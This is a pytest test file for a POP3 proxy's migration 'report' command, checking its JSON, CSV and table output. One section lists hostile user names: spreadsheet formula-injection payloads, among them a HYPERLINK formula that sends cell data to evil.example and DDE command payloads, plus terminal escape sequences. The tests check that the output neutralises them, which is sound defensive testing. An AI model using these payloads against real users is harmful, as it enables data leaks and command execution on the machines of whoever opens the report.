"""``pop3proxy report`` in all three formats, for an inventory built from known events."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from pop3proxy import cli
from pop3proxy.migration.inventory import DATABASE_NAME, Inventory, InventoryStore
from pop3proxy.migration.pseudonym import Pseudonymizer

RULES = [
    "--rules",
    "name=cut phase=deny from=2099-03-01 networks=10.0.0.0/8",
    "--rules",
    "name=nag phase=warn networks=10.0.0.0/8",
]


def _session(
    inventory: Inventory,
    sid: str,
    client: str,
    verbs: list[tuple[str, list[str]]],
    login: dict[str, str],
) -> None:
    inventory.sink("session.opened", "info", {"session_id": sid, "client": f"{client}:4000"})
    for verb, args in verbs:
        inventory.sink("pop3.command", "info", {"session_id": sid, "verb": verb, "args": args})
    inventory.sink("pop3.login", "info", {"session_id": sid, **login})
    inventory.sink(
        "session.closed",
        "info",
        {"session_id": sid, "bytes_from_client": 30, "bytes_to_client": 300},
    )


@pytest.fixture
def state_dir(tmp_path: Path) -> Path:
    """An inventory of two days: alice twice from 10.0.0.5, bob once, carol failing once.

    carol never logged in, so she has no user row: her name is among 10.0.0.7's failed names.
    """
    state = tmp_path / "state"
    clock = ["2026-03-01T08:00:00Z"]
    inventory = Inventory(clock=lambda: clock[0])
    store = InventoryStore(str(state / DATABASE_NAME))
    ok_alice = {"user": "alice", "mechanism": "USER", "result": "success"}
    _session(inventory, "1", "10.0.0.5", [("CAPA", []), ("USER", ["alice"])], ok_alice)
    clock[0] = "2026-03-01T09:30:00Z"
    _session(
        inventory,
        "2",
        "192.168.1.9",
        [],
        {"user": "bob", "mechanism": "PLAIN", "result": "success"},
    )
    store.write(inventory.take())
    clock[0] = "2026-03-02T07:00:00Z"
    _session(inventory, "3", "10.0.0.5", [("USER", ["alice"])], ok_alice)
    clock[0] = "2026-03-02T07:05:00Z"
    _session(
        inventory,
        "4",
        "10.0.0.7",
        [("USER", ["carol"])],
        {"user": "carol", "mechanism": "USER", "result": "failure"},
    )
    store.write(inventory.take())
    store.close()
    return state


def report(capsys: pytest.CaptureFixture[str], state: Path, *args: str) -> tuple[int, str, str]:
    status = cli.main(["report", "--state-dir", str(state), *RULES, *args])
    out, err = capsys.readouterr()
    return status, out, err


def test_json(state_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = report(capsys, state_dir, "--format", "json")
    assert (status, err) == (0, "")
    data: dict[str, Any] = json.loads(out)
    assert data["summary"] == {
        "clients": 3,
        "users": 2,
        "sessions": 4,
        "clients_by_phase": {"warn": 2, "allow": 1},
    }
    clients = {row["name"]: row for row in data["clients"]}
    assert [row["name"] for row in data["clients"]] == ["10.0.0.7", "10.0.0.5", "192.168.1.9"]
    five = clients["10.0.0.5"]
    assert (five["first_seen"], five["last_seen"]) == (
        "2026-03-01T08:00:00Z",
        "2026-03-02T07:00:00Z",
    )
    assert (five["sessions"], five["logins_ok"], five["logins_failed"]) == (2, 2, 0)
    assert five["bytes_to_client"] == 600
    assert five["mechanisms"] == "USER"
    assert five["fingerprints"] == "CAPA,USER,PASS (1); USER,PASS (1)"
    assert (five["phase"], five["rule"], five["upcoming"]) == (
        "warn",
        "nag",
        "deny from 2099-03-01",
    )
    assert five["last_peer"] == "alice"
    bob = clients["192.168.1.9"]
    assert (bob["phase"], bob["rule"], bob["upcoming"]) == ("allow", None, None)
    assert bob["fingerprints"] == "AUTH PLAIN (1)"
    seven = clients["10.0.0.7"]
    assert (seven["logins_failed"], seven["failed_names"], seven["last_peer"]) == (
        1,
        "carol (1)",
        None,
    )
    assert five["failed_names"] == ""
    users = {row["name"]: row for row in data["users"]}
    assert set(users) == {"alice", "bob"}
    assert (users["alice"]["logins_ok"], users["alice"]["phase"]) == (2, "warn")
    assert users["alice"]["last_peer"] == "10.0.0.5"
    assert data["totals"] == [
        {"day": "2026-03-01", "clients": 2, "users": 2, "sessions": 2},
        {"day": "2026-03-02", "clients": 2, "users": 1, "sessions": 2},
    ]
    assert data["rules"] == [
        "cut: deny from 2099-03-01 (net 10.0.0.0/8)",
        "nag: warn (net 10.0.0.0/8)",
    ]


def test_csv(state_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = report(capsys, state_dir, "--format", "csv")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    kinds = [row["kind"] for row in rows]
    assert kinds == ["client"] * 3 + ["user"] * 2 + ["day"] * 2
    by_name = {(row["kind"], row["name"]): row for row in rows}
    five = by_name["client", "10.0.0.5"]
    assert (five["sessions"], five["phase"], five["upcoming"]) == (
        "2",
        "warn",
        "deny from 2099-03-01",
    )
    assert five["fingerprints"] == "CAPA,USER,PASS (1); USER,PASS (1)"
    seven = by_name["client", "10.0.0.7"]
    assert (seven["logins_ok"], seven["logins_failed"], seven["failed_names"]) == (
        "0",
        "1",
        "carol (1)",
    )
    alice = by_name["user", "alice"]
    assert (alice["logins_ok"], alice["logins_failed"], alice["last_peer"]) == (
        "2",
        "0",
        "10.0.0.5",
    )
    day = by_name["day", "2026-03-02"]
    assert (day["clients"], day["users"], day["sessions"]) == ("2", "1", "2")


def test_table(state_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = report(capsys, state_dir)
    assert status == 0
    lines = out.splitlines()
    assert lines[0].startswith("Plaintext POP3 clients: 3 addresses, 2 users, 4 sessions")
    assert "Clients still on plaintext:" in lines
    assert "Users still on plaintext:" in lines
    assert "Totals per day:" in lines
    five = next(line for line in lines if line.startswith("10.0.0.5 "))
    assert "warn, deny from 2099-03-01" in five
    assert "2026-03-02T07:00:00Z" in five
    assert "CAPA,USER,PASS (1); USER,PASS (1)" in five
    total = next(line for line in lines if line.startswith("2026-03-01 "))
    assert total.split() == ["2026-03-01", "2", "2", "2"]
    assert "FAILED AS" in next(line for line in lines if line.startswith("ADDRESS "))
    assert next(line for line in lines if line.startswith("10.0.0.7 ")).endswith("carol (1)")
    assert "  cut: deny from 2099-03-01 (net 10.0.0.0/8)" in lines


def test_since_filters_rows_and_totals(state_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = report(capsys, state_dir, "--format", "json", "--since", "2026-03-02")
    assert status == 0
    data = json.loads(out)
    assert [row["name"] for row in data["clients"]] == ["10.0.0.7", "10.0.0.5"]
    assert [row["day"] for row in data["totals"]] == ["2026-03-02"]
    assert data["since"] == "2026-03-02"


def test_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = report(capsys, tmp_path / "nowhere")
    assert (status, out) == (1, "")
    assert err.count("\n") == 1
    assert "no inventory at" in err
    status, _, err = report(capsys, Path(":memory:"))
    assert status == 1
    assert "memory only" in err
    status, _, err = report(capsys, tmp_path, "--since", "yesterday")
    assert status == 2
    assert "--since" in err
    status, _, err = report(capsys, tmp_path, "--format", "xml")
    assert status == 2


# -- what clients sent, in a spreadsheet and on a terminal ----------------------------------------

#: User names a client can send, aimed at whoever opens the CSV or reads the table.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1",
    "a,=1+1",
    'a"b',
    "\x1b]0;owned\x07\x1b[2Jname",
    "\x9b2Jc1",
    "rtl\u202eexe.txt",
    "nul\x00byte",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")


@pytest.fixture
def hostile_state(tmp_path: Path) -> Path:
    """Hostile names as logged-in users, as failed names, and as a rule-free client's peer."""
    state = tmp_path / "state"
    inventory = Inventory(clock=lambda: "2026-03-01T08:00:00Z")
    store = InventoryStore(str(state / DATABASE_NAME))
    for index, name in enumerate(HOSTILE_NAMES):
        ok = {"user": name, "mechanism": "USER", "result": "success"}
        _session(inventory, f"ok{index}", f"10.1.0.{index}", [("USER", [name])], ok)
        failed = {"user": name, "mechanism": "USER", "result": "failure"}
        _session(inventory, f"no{index}", f"10.2.0.{index}", [("USER", [name])], failed)
    store.write(inventory.take())
    store.close()
    return state


def test_csv_cells_never_start_a_formula(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = ["--rules", "name=-deny phase=warn networks=10.1.0.0/16"]
    status = cli.main(["report", "--state-dir", str(hostile_state), "--format", "csv", *rules])
    out, _ = capsys.readouterr()
    assert status == 0
    records = list(csv.reader(io.StringIO(out)))
    header, body = records[0], records[1:]
    assert len(body) == 3 * len(HOSTILE_NAMES) + 1  # two clients and a user each, one day
    cells = [cell for record in body for cell in record]
    for cell in cells:
        assert not cell.startswith(FORMULA_START), cell
        assert cell.isprintable(), cell
    # Every cell quoted: a ';' or ',' never starts a cell in a spreadsheet that splits there.
    for line in out.splitlines():
        assert line.startswith('"'), line
        assert line.endswith('"'), line
    rows = [dict(zip(header, record, strict=True)) for record in body]
    users = {row["name"] for row in rows if row["kind"] == "user"}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in users
    assert "'=cmd|' /C calc'!A0" in users
    assert "'\\x09=1+1" not in users  # escaped first: a backslash starts no formula
    assert "\\x09=1+1" in users
    assert "\\x1b]0;owned\\x07\\x1b[2Jname" in users
    assert "rtl\\u202eexe.txt" in users
    failed = {row["failed_names"] for row in rows if row["kind"] == "client"}
    assert "'-2+3+cmd|' /C calc'!A0 (1)" in failed
    peers = {row["last_peer"] for row in rows if row["kind"] == "client"}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in peers
    assert {row["rule"] for row in rows if row["kind"] == "user"} == {"'-deny"}


def test_table_escapes_control_characters(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = cli.main(["report", "--state-dir", str(hostile_state)])
    out, _ = capsys.readouterr()
    assert status == 0
    for line in out.splitlines():
        assert line.isprintable(), repr(line)
    assert "\\x1b]0;owned\\x07\\x1b[2Jname" in out
    assert "\\x9b2Jc1" in out
    assert "rtl\\u202eexe.txt" in out


def test_json_escapes_control_characters(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = cli.main(["report", "--state-dir", str(hostile_state), "--format", "json"])
    out, _ = capsys.readouterr()
    assert status == 0
    assert out.isascii()  # json.dumps: every control character as a \\u escape
    names = {row["name"] for row in json.loads(out)["users"]}
    assert names == set(HOSTILE_NAMES)  # exact: JSON is for tools, nothing is rewritten


# -- finding a user's rows ---------------------------------------------------------------------


def test_user_finds_the_rows_of_a_name_and_of_its_pseudonym(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    key_file = tmp_path / "pseudonym.key"
    key_file.write_text("0123456789abcdef0123456789abcdef\n")
    pseudonyms = Pseudonymizer(b"0123456789abcdef0123456789abcdef")
    state = tmp_path / "state"
    inventory = Inventory(clock=lambda: "2026-03-01T08:00:00Z")
    store = InventoryStore(str(state / DATABASE_NAME))
    alice, bob = pseudonyms.pseudonym("alice"), pseudonyms.pseudonym("bob")
    _session(
        inventory, "1", "10.0.0.5", [], {"user": alice, "mechanism": "USER", "result": "success"}
    )
    _session(
        inventory, "2", "10.0.0.6", [], {"user": bob, "mechanism": "USER", "result": "success"}
    )
    _session(
        inventory, "3", "10.0.0.7", [], {"user": alice, "mechanism": "USER", "result": "failure"}
    )
    store.write(inventory.take())
    store.close()

    args = ["report", "--state-dir", str(state), "--format", "json", "--user", "alice"]
    assert cli.main([*args, "--user-pseudonym-key-file", str(key_file)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["user"] == alice
    assert [row["name"] for row in data["users"]] == [alice]
    assert sorted(row["name"] for row in data["clients"]) == ["10.0.0.5", "10.0.0.7"]
    # Without the key the name is looked for as it is: a pseudonymised inventory has none.
    assert cli.main(args) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["users"], data["clients"]) == ([], [])
